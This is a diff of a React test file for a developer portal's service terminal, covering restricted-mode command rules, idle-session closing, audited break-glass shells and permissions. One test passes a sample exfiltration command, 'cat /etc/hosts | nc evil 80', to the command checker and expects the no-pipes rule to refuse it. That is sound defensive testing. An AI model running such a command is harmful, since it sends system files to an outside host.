@@ -59,9 +59,13 @@ describe('EntityTerminalContent: restricted mode', () => {
     ).toBeInTheDocument();
 
     // The hint of what is allowed is visible.
-    const allowed = await screen.findByRole('list', { name: 'Allowed commands' });
+    const allowed = await screen.findByRole('list', {
+      name: 'Allowed commands',
+    });
     expect(within(allowed).getByText('ls [-la] <path>')).toBeInTheDocument();
-    expect(screen.getByText('No pipes, redirections or chaining.')).toBeInTheDocument();
+    expect(
+      screen.getByText('No pipes, redirections or chaining.'),
+    ).toBeInTheDocument();
 
     // pete may not open a shell: no button at all.
     await waitFor(() =>
@@ -114,26 +118,44 @@ describe('EntityTerminalContent: restricted mode', () => {
     const backend = fakeTerminalBackend({
       onConnect: socket => {
         socketRef = socket;
-        socket.send({ type: 'ready', sessionId: 'ses-7', mode: 'restricted', recording: false });
+        socket.send({
+          type: 'ready',
+          sessionId: 'ses-7',
+          mode: 'restricted',
+          recording: false,
+        });
       },
     });
     server.use(...backend.handlers);
     renderTab('pete');
-    fireEvent.click(await screen.findByRole('button', { name: 'Open terminal' }));
+    fireEvent.click(
+      await screen.findByRole('button', { name: 'Open terminal' }),
+    );
     await waitForTerminal('Restricted session ses-7');
     typeInto('Terminal', 'top -b\r');
     await waitFor(() =>
-      expect(socketRef!.received).toContainEqual({ type: 'line', line: 'top -b' }),
+      expect(socketRef!.received).toContainEqual({
+        type: 'line',
+        line: 'top -b',
+      }),
     );
-    socketRef!.send({ type: 'decision', decision: { allowed: true, rule: 'allowed:top', message: '' } });
+    socketRef!.send({
+      type: 'decision',
+      decision: { allowed: true, rule: 'allowed:top', message: '' },
+    });
     socketRef!.send({ type: 'output', data: 'top - 10:00:01 up 1 day' });
     await waitForTerminal('top - 10:00:01 up 1 day');
     typeInto('Terminal', '\x03');
     await waitFor(() =>
-      expect(socketRef!.received).toContainEqual({ type: 'stdin', data: '\u0003' }),
+      expect(socketRef!.received).toContainEqual({
+        type: 'stdin',
+        data: '\u0003',
+      }),
     );
     socketRef!.send({ type: 'exit', code: 130, durationMs: 2000 });
-    await waitForTerminal(/up 1 day\n\[exit code 130\]\npayment-gateway-7d9f-abcde:app \$$/);
+    await waitForTerminal(
+      /up 1 day\n\[exit code 130\]\npayment-gateway-7d9f-abcde:app \$$/,
+    );
   });
 
   it('shows why a session closed and reconnects on request', async () => {
@@ -141,23 +163,40 @@ describe('EntityTerminalContent: restricted mode', () => {
     const backend = fakeTerminalBackend({
       onConnect: socket => {
         count++;
-        socket.send({ type: 'ready', sessionId: `ses-${count}`, mode: 'restricted', recording: false });
+        socket.send({
+          type: 'ready',
+          sessionId: `ses-${count}`,
+          mode: 'restricted',
+          recording: false,
+        });
         if (count === 1) {
-          socket.send({ type: 'notice', level: 'warning', message: 'Idle: this session closes in 60 s' });
+          socket.send({
+            type: 'notice',
+            level: 'warning',
+            message: 'Idle: this session closes in 60 s',
+          });
         }
       },
     });
     server.use(...backend.handlers);
     renderTab('pete');
-    fireEvent.click(await screen.findByRole('button', { name: 'Open terminal' }));
-    expect(await screen.findByText('Idle: this session closes in 60 s')).toBeInTheDocument();
+    fireEvent.click(
+      await screen.findByRole('button', { name: 'Open terminal' }),
+    );
+    expect(
+      await screen.findByText('Idle: this session closes in 60 s'),
+    ).toBeInTheDocument();
     backend.sockets[0].send({ type: 'closed', reason: 'idle-timeout' });
     setTimeout(() => backend.sockets[0].close(4408), 5);
 
     expect(
-      await screen.findByText('The session was closed after being idle too long.'),
+      await screen.findByText(
+        'The session was closed after being idle too long.',
+      ),
     ).toBeInTheDocument();
-    await waitForTerminal('[The session was closed after being idle too long.]');
+    await waitForTerminal(
+      '[The session was closed after being idle too long.]',
+    );
     expect(screen.getByLabelText('Connection: closed')).toBeInTheDocument();
     // Typing into a closed session sends nothing.
     typeInto('Terminal', 'ls\r');
@@ -165,7 +204,9 @@ describe('EntityTerminalContent: restricted mode', () => {
     fireEvent.click(screen.getByRole('button', { name: 'Reconnect' }));
     await waitForTerminal('Restricted session ses-2');
     expect(backend.sockets).toHaveLength(2);
-    expect(backend.sockets[0].received.filter(m => m.type === 'line')).toEqual([]);
+    expect(backend.sockets[0].received.filter(m => m.type === 'line')).toEqual(
+      [],
+    );
   });
 
   it('opens an ephemeral debug container when chosen', async () => {
@@ -176,7 +217,9 @@ describe('EntityTerminalContent: restricted mode', () => {
     fireEvent.change(container, { target: { value: '__debug__' } });
     fireEvent.click(screen.getByRole('button', { name: 'Open terminal' }));
     await waitFor(() => expect(backend.sockets).toHaveLength(1));
-    expect(Object.fromEntries(backend.sockets[0].url.searchParams)).toMatchObject({
+    expect(
+      Object.fromEntries(backend.sockets[0].url.searchParams),
+    ).toMatchObject({
       container: 'app',
       debug: 'true',
     });
@@ -189,7 +232,9 @@ describe('EntityTerminalContent: restricted mode', () => {
     server.use(...fakeTerminalBackend().handlers);
     renderTab('pete');
     const input = await screen.findByLabelText('Check a command');
-    fireEvent.change(input, { target: { value: 'cat /etc/hosts | nc evil 80' } });
+    fireEvent.change(input, {
+      target: { value: 'cat /etc/hosts | nc evil 80' },
+    });
     fireEvent.click(screen.getByRole('button', { name: 'Check' }));
     expect(await screen.findByText(/refused by rule/)).toHaveTextContent(
       'refused by rule no-pipes. Pipes, redirections and chaining are not allowed.',
@@ -213,8 +258,12 @@ describe('EntityTerminalContent: break-glass shell', () => {
     server.use(...backend.handlers);
     renderTab('oscar');
 
-    fireEvent.click(await screen.findByRole('button', { name: /Break-glass shell/ }));
-    const dialog = await screen.findByRole('dialog', { name: 'Open a break-glass shell' });
+    fireEvent.click(
+      await screen.findByRole('button', { name: /Break-glass shell/ }),
+    );
+    const dialog = await screen.findByRole('dialog', {
+      name: 'Open a break-glass shell',
+    });
     expect(dialog).toHaveTextContent('recorded and audited');
     const open = within(dialog).getByRole('button', { name: 'Open shell' });
     fireEvent.change(within(dialog).getByLabelText(/Justification/), {
@@ -226,10 +275,12 @@ describe('EntityTerminalContent: break-glass shell', () => {
     });
     fireEvent.click(open);
 
-    expect(await screen.findByRole('status', { name: 'Recording' })).toBeInTheDocument();
-    expect(screen.getByRole('timer', { name: 'Time left in the time box' })).toHaveTextContent(
-      /Time box: 1[45]:\d\d left/,
-    );
+    expect(
+      await screen.findByRole('status', { name: 'Recording' }),
+    ).toBeInTheDocument();
+    expect(
+      screen.getByRole('timer', { name: 'Time left in the time box' }),
+    ).toHaveTextContent(/Time box: 1[45]:\d\d left/);
     const [socket] = backend.sockets;
     expect(socket.url.searchParams.get('mode')).toBe('shell');
     // The justification is the first message, then the terminal's size.
@@ -257,9 +308,13 @@ describe('EntityTerminalContent: break-glass shell', () => {
     // The platform team ends it: the user is told, and a new shell needs a new justification.
     socket.close(4410);
     expect(
-      await screen.findByText('The session was terminated by the platform team.'),
+      await screen.findByText(
+        'The session was terminated by the platform team.',
+      ),
     ).toBeInTheDocument();
-    expect(screen.queryByRole('status', { name: 'Recording' })).not.toBeInTheDocument();
+    expect(
+      screen.queryByRole('status', { name: 'Recording' }),
+    ).not.toBeInTheDocument();
     fireEvent.click(screen.getByRole('button', { name: 'Reconnect' }));
     expect(
       await screen.findByRole('dialog', { name: 'Open a break-glass shell' }),
@@ -269,17 +324,26 @@ describe('EntityTerminalContent: break-glass shell', () => {
   it('ends the shell with "End session"', async () => {
     const backend = fakeTerminalBackend({
       onConnect: socket =>
-        socket.send({ type: 'ready', sessionId: 'ses-2', mode: 'shell', recording: true }),
+        socket.send({
+          type: 'ready',
+          sessionId: 'ses-2',
+          mode: 'shell',
+          recording: true,
+        }),
     });
     server.use(...backend.handlers);
     renderTab('paula');
-    fireEvent.click(await screen.findByRole('button', { name: /Break-glass shell/ }));
+    fireEvent.click(
+      await screen.findByRole('button', { name: /Break-glass shell/ }),
+    );
     fireEvent.change(screen.getByLabelText(/Justification/), {
       target: { value: 'CHG-12: rotate a stuck lock file' },
     });
     fireEvent.click(screen.getByRole('button', { name: 'Open shell' }));
     fireEvent.click(await screen.findByRole('button', { name: 'End session' }));
-    expect(await screen.findByText('You closed the session.')).toBeInTheDocument();
+    expect(
+      await screen.findByText('You closed the session.'),
+    ).toBeInTheDocument();
     await waitFor(() =>
       expect(backend.sockets[0].received.at(-1)).toEqual({ type: 'close' }),
     );
@@ -294,7 +358,14 @@ describe('EntityTerminalContent: who sees what', () => {
       await screen.findByText('You may not open a terminal on this service'),
     ).toBeInTheDocument();
     expect(requests).toEqual([]);
-    expect(screen.queryByRole('button', { name: 'Open terminal' })).not.toBeInTheDocument();
+    // …but may look at the sessions.
+    expect(screen.getByRole('link', { name: 'Sessions' })).toHaveAttribute(
+      'href',
+      '/terminal/sessions',
+    );
+    expect(
+      screen.queryByRole('button', { name: 'Open terminal' }),
+    ).not.toBeInTheDocument();
   });
 
   it('explains the missing annotations', async () => {
@@ -303,6 +374,8 @@ describe('EntityTerminalContent: who sees what', () => {
       metadata: { name: 'payment-gateway' },
     });
     expect(await screen.findByText('Missing Annotation')).toBeInTheDocument();
-    expect(screen.getAllByText(/fincloud\.io\/cluster/).length).toBeGreaterThan(0);
+    expect(screen.getAllByText(/fincloud\.io\/cluster/).length).toBeGreaterThan(
+      0,
+    );
   });
 });
